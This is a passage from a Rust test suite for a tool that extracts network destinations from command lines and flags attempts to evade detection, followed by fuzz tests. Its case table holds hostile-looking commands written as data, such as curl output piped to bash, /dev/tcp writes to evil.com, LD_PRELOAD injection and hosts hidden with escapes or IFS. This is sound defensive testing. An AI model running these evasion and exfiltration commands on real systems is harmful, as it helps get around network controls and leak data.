            D(&["a.com:443"]),
        ),
        (
            &["sudo", "--user=www", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["sudo", "X=1", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["sudo", "HTTPS_PROXY=http://p:1", "curl", "https://a.com"],
            E,
        ),
        (
            &["doas", "-u", "root", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["timeout", "10", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["timeout", "-s", "KILL", "5s", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["timeout", "--kill-after=1", "5", "curl", "a.com"],
            D(&["a.com:80"]),
        ),
        (&["nice", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["nice", "-n", "10", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["nice", "-10", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["ionice", "-c", "3", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["exec", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["exec", "-a", "name", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["command", "curl", "https://a.com"], D(&["a.com:443"])),
        (&["command", "-p", "curl", "a.com"], D(&["a.com:80"])),
        (&["nohup", "curl", "https://a.com"], D(&["a.com:443"])),
        (&["time", "curl", "https://a.com"], D(&["a.com:443"])),
        (&["time", "-p", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["stdbuf", "-oL", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["stdbuf", "-o", "0", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["setsid", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["taskset", "-c", "0", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["busybox", "wget", "a.com"], D(&["a.com:80"])),
        (
            &[
                "sudo",
                "env",
                "timeout",
                "5",
                "nice",
                "curl",
                "https://a.com",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["xargs", "-I{}", "curl", "https://a.com/{}"],
            D(&["a.com:443"]),
        ),
        (
            &["xargs", "-I", "X", "curl", "https://a.com/X"],
            D(&["a.com:443"]),
        ),
        (&["xargs", "-n1", "echo"], N),
        (&["xargs", "rm"], N),
        (&["xargs", "curl"], E),
        (&["xargs", "-n", "1", "curl", "-s"], E),
        (&["xargs", "-0", "git", "push"], E),
        (&["xargs", "-I{}", "curl", "{}"], E),
        (&["xargs", "-I", "X", "curl", "X"], E),
        (&["xargs", "-I{}", "ssh", "{}", "uptime"], E),
        (
            &["strace", "-f", "-o", "/tmp/t", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        // ---- inline environment
        (&["HTTPS_PROXY=http://p:8080", "curl", "https://a.com"], E),
        (&["http_proxy=http://p:8080", "curl", "http://a.com"], E),
        (&["ALL_PROXY=socks5://p:1", "curl", "https://a.com"], E),
        (&["all_proxy=socks5://p:1", "curl", "https://a.com"], E),
        (&["FTP_PROXY=p", "curl", "ftp://a.com"], E),
        (&["NO_PROXY=*", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["no_proxy=localhost", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["env", "HTTPS_PROXY=http://p:8080", "curl", "https://a.com"],
            E,
        ),
        (&["env", "-i", "https_proxy=x", "curl", "https://a.com"], E),
        (&["CURL_HOME=/tmp/evil", "curl", "https://a.com"], E),
        (&["WGETRC=/tmp/rc", "wget", "https://a.com"], E),
        (&["HOSTALIASES=/tmp/h", "curl", "https://a.com"], E),
        (&["LD_PRELOAD=/tmp/x.so", "curl", "https://a.com"], E),
        (&["RSYNC_RSH=nc", "rsync", "a", "h.example:/b"], E),
        (&["BASH_ENV=/tmp/x", "bash", "-c", "ls"], E),
        (
            &["API_URL=https://api.example", "./run.sh"],
            D(&["api.example:443"]),
        ),
        (&["DB_HOST=db.example", "./migrate"], D(&["db.example"])),
        (&["DB_HOST={{secure.H}}", "./migrate"], E),
        (
            &["DOCKER_HOST=tcp://d.example:2375", "docker", "ps"],
            D(&["d.example:2375"]),
        ),
        (&["FOO=bar", "BAZ=1", "make"], N),
        // ---- sh -c scripts
        (&["sh", "-c", "curl https://a.com"], D(&["a.com:443"])),
        (
            &["bash", "-c", "curl -s https://a.com | jq ."],
            D(&["a.com:443"]),
        ),
        (
            &["bash", "-ec", "curl a.com; wget b.com"],
            D(&["a.com:80", "b.com:80"]),
        ),
        (
            &["bash", "-lc", "curl a.com && ssh h.example"],
            D(&["a.com:80", "h.example:22"]),
        ),
        (
            &["zsh", "-c", "false || curl https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["dash", "-c", "x=$(curl https://a.com)"],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "echo `curl https://a.com`"],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "echo \"$(curl https://a.com)\""],
            D(&["a.com:443"]),
        ),
        (
            &[
                "sh",
                "-c",
                "diff <(curl https://a.com) <(curl https://b.com)",
            ],
            D(&["a.com:443", "b.com:443"]),
        ),
        (&["sh", "-c", "(cd /tmp && curl a.com)"], D(&["a.com:80"])),
        (&["sh", "-c", "{ curl a.com; }"], D(&["a.com:80"])),
        (
            &["sh", "-c", "if true; then curl a.com; fi"],
            D(&["a.com:80"]),
        ),
        (
            &[
                "sh",
                "-c",
                "while read l; do curl https://a.com/$l; done < list",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "for u in a b; do curl https://c.com/$u; done"],
            D(&["c.com:443"]),
        ),
        (
            &["sh", "-c", "curl https://a.com > out.txt 2>&1"],
            D(&["a.com:443"]),
        ),
        (&["sh", "-c", "curl 'https://a.com/x y'"], D(&["a.com:443"])),
        (&["sh", "-c", "curl \"https://a.com\""], D(&["a.com:443"])),
        (
            &["sh", "-c", "curl https://a.com # curl https://b.com"],
            D(&["a.com:443"]),
        ),
        (&["sh", "-c", "curl https://a.com &"], D(&["a.com:443"])),
        (
            &["sh", "-c", "sudo -u x env timeout 3 curl a.com"],
            D(&["a.com:80"]),
        ),
        (&["sh", "-c", "exec curl a.com"], D(&["a.com:80"])),
        (
            &["sh", "-c", "HOST=a.com; curl https://$HOST/x"],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "HOST=a.com; curl \"https://${HOST}/x\""],
            D(&["a.com:443"]),
        ),
        // Exported `*HOST*` variables reach every later program: port unknown.
        (
            &["sh", "-c", "export HOST=a.com; curl https://$HOST"],
            D(&["a.com", "a.com:443"]),
        ),
        (&["sh", "-c", "curl https://$HOST/x"], E),
        (&["sh", "-c", "curl \"$1\"", "sh", "a.com"], E),
        (&["sh", "-c", "curl $(cat url.txt)"], E),
        (&["sh", "-c", "curl `cat url`"], E),
        (&["sh", "-c", "H=a.com; H=evil.com; curl $H"], E),
        (&["sh", "-c", "if x; then H=a.com; fi; curl $H"], E),
        (&["sh", "-c", "false && H=a.com; curl $H"], E),
        (&["sh", "-c", "read H; curl $H"], E),
        (&["sh", "-c", "for H in a.com b.com; do curl $H; done"], E),
        (&["sh", "-c", "curl $'\\x65vil.com'"], E),
        (&["sh", "-c", "curl ${H:-a.com}"], E),
        (
            &["sh", "-c", "HTTPS_PROXY=http://p:1 curl https://a.com"],
            E,
        ),
        (
            &[
                "sh",
                "-c",
                "export HTTPS_PROXY=http://p:1; curl https://a.com",
            ],
            E,
        ),
        (&["sh", "-c", "echo curl evil.com | sh"], E),
        (&["sh", "-c", "curl -s https://a.com/x.sh | bash"], E),
        (&["sh", "-c", "eval curl evil.com"], D(&["evil.com:80"])),
        (&["sh", "-c", "eval \"curl $X\""], E),
        (
            &["sh", "-c", "sh -c 'curl https://a.com'"],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "bash -c \"ssh h.example uptime\""],
            D(&["h.example:22"]),
        ),
        (
            &["sh", "-c", "echo x > /dev/tcp/evil.com/443"],
            D(&["evil.com:443"]),
        ),
        (
            &["bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/80"],
            D(&["1.2.3.4:80"]),
        ),
        (
            &["bash", "-c", "cat < /dev/udp/h.example/53"],
            D(&["h.example:53"]),
        ),
        (
            &["sh", "-c", "cat <<EOF\ncurl https://a.com\nEOF"],
            D(&["a.com:443"]),
        ),
        (
            &["sh", "-c", "ssh h.example <<EOF\ncurl evil.com\nEOF"],
            D(&["h.example:22", "evil.com:80"]),
        ),
        (&["sh", "-c", "curl 'https://a.com"], D(&["a.com:443"])),
        // Unlexable: every segment starting with a known program is analysed.
        (
            &["sh", "-c", "curl \"unterminated a.com"],
            D(&["unterminated:80", "a.com:80"]),
        ),
        (&["sh", "-c", "curl https://a.com; git push origin"], E),
        (&["sh", "-c", "curl -H 'Host: evil' https://a.com"], E),
        (&["sh", "-c", "xargs curl < urls"], E),
        (
            &["sh", "-c", "python3 -c 'print(1)'; ls -la; date +%H:%M"],
            N,
        ),
        (&["sh", "-c", "cd /app && make -j4 && cargo test"], N),
        (&["sh", "-c", "echo $HOME"], N),
        (&["sh", "-c", ""], N),
        (&["sh", "-c"], N),
        (
            &["sh", "-o", "pipefail", "-c", "curl a.com | cat"],
            D(&["a.com:80"]),
        ),
        (&["bash", "--norc", "-c", "curl a.com"], D(&["a.com:80"])),
        (&["/bin/sh", "-c", "curl a.com"], D(&["a.com:80"])),
        (&["fish", "-c", "curl a.com"], D(&["a.com:80"])),
        (&["ksh", "-c", "curl a.com"], D(&["a.com:80"])),
        (&["sh", "-c", "f() { curl a.com; }; f"], D(&["a.com:80"])),
        (
            &["sh", "-c", "case $x in a) curl a.com;; esac"],
            D(&["a.com:80"]),
        ),
        (&["sh", "-c", "curl a.com\\\n  -s"], D(&["a.com:80"])),
        (&["sh", "-c", "[ -f x ] && curl a.com"], D(&["a.com:80"])),
        (&["sh", "-c", "! curl a.com"], D(&["a.com:80"])),
        (&["sh", "-c", "curl a.com |& tee log"], D(&["a.com:80"])),
        (&["sh", "-c", "curl a.com &> log"], D(&["a.com:80"])),
        (&["sh", "-c", "cat <<< 'https://a.com'"], D(&["a.com:443"])),
        (&["sh", "-c", "time curl a.com"], D(&["a.com:80"])),
        (&["sh", "-c", "$CMD https://a.com"], E),
        (&["sh", "-c", "curl${IFS}evil.com"], E),
        (&["sh", "-c", "\"$@\"", "sh", "curl", "evil.com"], E),
        (&["bash", "-c", "alias c=curl; c evil.com"], E),
        (&["curl", "-H", "Host : evil.com", "https://a.com"], E),
        (&["curl", "-H", " HOST;", "https://a.com"], E),
        // The output of the substitution is run as a command.
        (&["sh", "-c", "curl a.com; $(curl b.com)"], E),
        (&["sh", "-c", "echo $((1+2))"], N),
        (&["sh", "-c", "source ./env.sh && ./deploy"], N),
        // ---- runners
        (
            &[
                "docker",
                "run",
                "--rm",
                "curlimages/curl",
                "curl",
                "https://a.com",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["docker", "exec", "c1", "sh", "-c", "curl https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["kubectl", "exec", "pod", "--", "curl", "a.com"],
            D(&["a.com:80"]),
        ),
        (
            &["op", "run", "--", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["aws-vault", "exec", "prod", "--", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["watch", "-n", "5", "curl -s https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["uv", "run", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["npm", "exec", "--", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &[
                "docker",
                "run",
                "-e",
                "HTTPS_PROXY=http://p:1",
                "img",
                "curl",
                "https://a.com",
            ],
            E,
        ),
        (
            &[
                "kubectl",
                "exec",
                "pod",
                "--",
                "curl",
                "-x",
                "p:1",
                "https://a.com",
            ],
            E,
        ),
        (&["proxychains", "curl", "https://a.com"], E),
        (&["torsocks", "curl", "https://a.com"], E),
        (
            &["mytool", "--", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["mytool", "--", "ssh", "-J", "j", "h.example"], E),
        // ---- generic scan of unknown programs
        (&["myprog", "https://a.com/x"], D(&["a.com:443"])),
        (&["myprog", "--endpoint=https://a.com"], D(&["a.com:443"])),
        (&["myprog", "x=https://a.com"], D(&["a.com:443"])),
        (
            &["myprog", "{\"url\":\"https://a.com/v1\"}"],
            D(&["a.com:443"]),
        ),
        (&["myprog", "see (https://a.com)"], D(&["a.com:443"])),
        (
            &["myprog", "https://a.com/x,https://b.com/y"],
            D(&["a.com:443", "b.com:443"]),
        ),
        (&["myprog", "git@github.com:org/repo"], D(&["github.com"])),
        (&["myprog", "deploy@10.0.0.5"], D(&["10.0.0.5"])),
        (
            &["myprog", "a.example.com:8443"],
            D(&["a.example.com:8443"]),
        ),
        (&["myprog", "10.0.0.1:5432"], D(&["10.0.0.1:5432"])),
        (&["myprog", "[::1]:8080"], D(&["[::1]:8080"])),
        (
            &["myprog", "--target", "api.example.com:443/path"],
            D(&["api.example.com:443"]),
        ),
        (
            &["myprog", "--host", "db.example.com"],
            D(&["db.example.com"]),
        ),
        (
            &["myprog", "--host=db.example.com:5432"],
            D(&["db.example.com:5432"]),
        ),
        (&["myprog", "--server", "10.1.1.1"], D(&["10.1.1.1"])),
        (&["myprog", "--host", "{{secure.H}}"], E),
        (&["myprog", "--url", "localhost"], D(&["localhost"])),
        (
            &["openssl", "s_client", "-connect", "a.example.com:443"],
            D(&["a.example.com:443"]),
        ),
        (
            &["myprog", "mongodb+srv://u:p@c.example.net/db"],
            D(&["c.example.net"]),
        ),
        (
            &["myprog", "amqp://guest@mq.example:5673/"],
            D(&["mq.example:5673"]),
        ),
        (
            &["myprog", "jdbc:postgresql://db.example:5432/x"],
            D(&["db.example:5432"]),
        ),
        (
            &["myprog", "custom+scheme://thing.example/x"],
            D(&["thing.example"]),
        ),
        (&["myprog", "s3://bucket/key"], N),
        (&["myprog", "file:///tmp/x"], N),
        (&["myprog", "unix:///var/run/docker.sock"], N),
        (&["myprog", "http://"], E),
        (&["myprog", "localhost:8080"], N),
        (&["myprog", "main.rs:42"], N),
        (&["myprog", "12:30:45"], N),
        (&["myprog", "v1.2.3:latest"], N),
        (&["myprog", "image:1.2"], N),
        (&["myprog", "user@localhost"], N),
        (&["myprog", "@scope/pkg@1.2.3"], N),
        (&["myprog", "foo@1.2.3.4.5"], N),
        (&["myprog", "https://$HOST/x"], E),
        (&["myprog", "https://{{secure.H}}"], E),
        (&["myprog", "https://a.com:{{secure.P}}"], E),
        (
            &[
                "python3",
                "-c",
                "import urllib.request as u; u.urlopen('https://a.com')",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["node", "-e", "fetch(\"https://a.com/api\")"],
            D(&["a.com:443"]),
        ),
        (
            &["ruby", "-e", "Net::HTTP.get(URI('http://a.com'))"],
            D(&["a.com:80"]),
        ),
        (&["myprog", "/dev/tcp/evil.com/80"], D(&["evil.com:80"])),
        (&["{{secure.CMD}}", "x"], E),
        (&["$PROG", "https://a.com"], E),
    ];

    fn run(argv: &[&str]) -> Result<Vec<Destination>, Evasion> {
        let owned: Vec<String> = argv.iter().map(|s| (*s).to_string()).collect();
        destinations(&owned)
    }

    #[test]
    fn table() {
        let mut failures = Vec::new();
        for (argv, expect) in CASES {
            let got = run(argv);
            let ok = match (expect, &got) {
                (N, Ok(d)) => d.is_empty(),
                (D(want), Ok(d)) => {
                    let mut want: Vec<String> = want.iter().map(|s| (*s).to_string()).collect();
                    let mut have: Vec<String> = d.iter().map(ToString::to_string).collect();
                    want.sort();
                    have.sort();
                    want == have
                }
                (E, Err(_)) => true,
                _ => false,
            };
            if !ok {
                let shown = match &got {
                    Ok(d) => format!(
                        "{:?}",
                        d.iter().map(ToString::to_string).collect::<Vec<_>>()
                    ),
                    Err(e) => format!("Evasion({e})"),
                };
                failures.push(format!("{argv:?}: expected {expect:?}, got {shown}"));
            }
        }
        assert!(
            failures.is_empty(),
            "{} of {} cases failed:\n{}",
            failures.len(),
            CASES.len(),
            failures.join("\n")
        );
    }

    #[test]
    fn table_is_large() {
        assert!(CASES.len() >= 300, "{} cases", CASES.len());
    }

    #[test]
    fn sources_and_reasons() {
        let d = run(&["curl", "-s", "https://a.com"]).expect("ok");
        assert_eq!(
            d.first().map(|d| d.source.as_str()),
            Some("curl URL argument 2")
        );
        let d = run(&["sh", "-c", "curl a.com"]).expect("ok");
        assert_eq!(
            d.first().map(|d| d.source.as_str()),
            Some("`sh -c` script argument 2: curl URL argument 1")
        );
        let e = run(&["curl", "-x", "p:1", "https://a.com"]).expect_err("proxy");
        assert!(e.reason.contains("proxy"), "{e}");
        assert_eq!(e.location, "curl option argument 1");
        let e = run(&["git", "push", "origin", "main"]).expect_err("remote name");
        assert!(
            e.reason.contains("origin") && e.reason.contains("URL"),
            "{e}"
        );
        let e = run(&["curl", "https://{{secure.H}}/"]).expect_err("secret host");
        assert!(e.reason.contains("secret"), "{e}");
        let e = run(&["HTTPS_PROXY=x", "curl", "https://a.com"]).expect_err("proxy var");
        assert!(e.reason.contains("HTTPS_PROXY"), "{e}");
        // One line each.
        assert!(!e.to_string().contains('\n'));
    }

    #[test]
    fn dedup_keeps_first_source() {
        let d = run(&["curl", "https://a.com", "https://a.com/x"]).expect("ok");
        assert_eq!(d.len(), 1);
        assert_eq!(
            d.first().map(|d| d.source.as_str()),
            Some("curl URL argument 1")
        );
    }

    #[test]
    fn nesting_is_bounded() {
        let script = format!("{}curl a.com", "eval ".repeat(40));
        assert!(run(&["sh", "-c", &script]).is_err());
        let mut argv: Vec<&str> = Vec::new();
        for _ in 0..40 {
            argv.extend(["sudo", "env", "nice"]);
        }
        argv.extend(["curl", "a.com"]);
        assert!(run(&argv).is_err());
        // Deep parentheses do not overflow anything.
        let deep = format!("{}curl a.com{}", "(".repeat(5000), ")".repeat(5000));
        assert!(run(&["sh", "-c", &deep]).is_ok());
        let deep_sub = format!("{}curl a.com{}", "$(".repeat(200), ")".repeat(200));
        assert!(run(&["sh", "-c", &deep_sub]).is_err());
    }

    #[test]
    fn huge_inputs_are_cheap() {
        let big = "a".repeat(1_000_000);
        assert!(run(&["curl", &big]).is_err());
        let many: Vec<String> = (0..20_000).map(|i| format!("w{i}")).collect();
        let mut argv = vec!["myprog".to_string()];
        argv.extend(many);
        assert!(destinations(&argv).is_ok());
        let script = "curl a.com;".repeat(10_000);
        assert!(run(&["sh", "-c", &script]).is_err());
        let script = "echo x;".repeat(1_000);
        assert!(run(&["sh", "-c", &script]).is_ok());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        #[test]
        fn never_panics(argv in proptest::collection::vec("\\PC{0,24}", 0..6)) {
            let _ = destinations(&argv);
        }

        #[test]
        fn never_panics_on_known_programs(
            prog in prop_oneof![
                Just("curl"), Just("wget"), Just("ssh"), Just("scp"), Just("rsync"),
                Just("git"), Just("sh"), Just("http"), Just("psql"), Just("mysql"),
                Just("mongosh"), Just("nc"), Just("socat"), Just("env"), Just("xargs"),
                Just("redis-cli"), Just("telnet"), Just("sftp"),
            ],
            args in proptest::collection::vec("[-a-zA-Z0-9:/@.\\[\\]%$'\"`(){};|&<>=\\\\ #?]{0,20}", 0..6),
        ) {
            let mut argv = vec![prog.to_string()];
            argv.extend(args);
            let _ = destinations(&argv);
        }

        #[test]
        fn shell_scripts_never_panic(script in "[a-z :/.@$'\"`(){};|&<>=\\\\#\n-]{0,60}") {
            let _ = destinations(&["sh".to_string(), "-c".to_string(), script]);
        }

        #[test]
        fn hosts_are_normalised(argv in proptest::collection::vec("[a-zA-Z0-9:/@.\\-]{0,20}", 1..4)) {
            let mut full = vec!["curl".to_string()];
            full.extend(argv);
            if let Ok(dests) = destinations(&full) {
                for d in dests {
                    prop_assert_eq!(normalize::host(&d.host), Ok(d.host.clone()));
                }
            }
        }
    }
}
